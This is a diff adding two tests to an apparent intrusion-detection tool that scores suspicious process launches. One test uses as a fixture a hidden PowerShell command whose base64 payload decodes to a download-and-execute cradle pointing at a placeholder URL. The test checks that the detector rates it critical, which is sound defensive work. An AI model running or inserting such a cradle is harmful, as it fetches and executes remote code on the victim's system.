@@ -299,6 +299,33 @@ test('a process of both logs is one finding whose aliases are what each log alon
   );
 });
 
+test('a start that a foreign template decoded says so (A16)', () => {
+  const told = (isForeignTemplate: boolean): string | undefined =>
+    only(
+      huntEvents(
+        madeEvents([child(CALC, 'calc')]).map((event) => ({
+          ...event,
+          isForeignTemplate,
+          detach: () => ({ ...event, isForeignTemplate }),
+        })),
+      ).findings,
+    ).terms[0]?.text;
+  assert.equal(told(false), 'WMI started a program; its caller is not in evidence');
+  assert.equal(
+    told(true),
+    'WMI started a program; its caller is not in evidence; inferred: decoded by a template of another chunk',
+  );
+});
+
+test('the payload weights of a long sum are all printed, and what is above the cap is taken off again', () => {
+  const line =
+    'powershell -nop -w hidden -e SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AeAAvAGEAJwApAA==';
+  const finding = only(hunt([child('C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', line)]).findings);
+  const sum = finding.terms.reduce((total, term) => total + term.points, 0);
+  assert.deepEqual([sum, finding.score, finding.level], [80, 80, 'critical']);
+  assert.equal(finding.terms.at(-1)?.code, 'PCAP');
+});
+
 test('L8: order within a second of equal times, and the split of files, do not change the answer', () => {
   const events = madeEvents([
     ...triad('command', CMD),
